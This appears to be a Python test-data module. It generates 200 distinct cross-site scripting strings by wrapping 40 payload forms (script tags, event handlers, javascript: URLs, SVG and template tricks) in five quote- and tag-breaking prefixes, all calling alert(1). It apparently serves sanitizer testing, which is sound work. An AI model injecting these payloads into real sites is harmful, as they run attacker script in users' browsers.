"""Two hundred texts that would run as a script where text is taken for markup, each in another way."""

from typing import Final

_CALL: Final = "alert(1)"

_BODIES: Final = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script src=data:text/javascript,{}></script>",
    "<script type=module>{}</script>",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'>",
    "<IMG SRC=x ONERROR={}>",
    "<img/src=x/onerror={}>",
    "<svg onload={}>",
    "<svg/onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{}'><text y=20>x</text></a></svg>",
    "<body onload={}>",
    "<iframe src=javascript:{}></iframe>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video src=x onerror={}></video>",
    "<audio src=x onerror={}></audio>",
    "<a href=javascript:{}>x</a>",
    "<a href='java\tscript:{}'>x</a>",
    "<form action=javascript:{}><button>x</button></form>",
    "<button formaction=javascript:{}>x</button>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<math><mtext></mtext><script>{}</script></math>",
    "<template><script>{}</script></template>",
    "<style>@import 'javascript:{}';</style>",
    "<div style=\"background:url('javascript:{}')\">x</div>",
    "<link rel=stylesheet href='javascript:{}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='javascript:{}//'>",
    "<marquee onstart={}>x</marquee>",
    "<p onmouseover={}>x</p>",
    "javascript:{}",
    "${{{}}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "';{};//",
)
_AROUND: Final = ("{}", '">{}', "'>{}<!--", "</title></textarea></pre>{}", "</script>{}\\u003cb\\u003e")

CORPUS: Final = tuple(around.replace("{}", body.format(_CALL)) for around in _AROUND for body in _BODIES)
"""Distinct, printable where it has no tab."""

assert len(set(CORPUS)) == 200
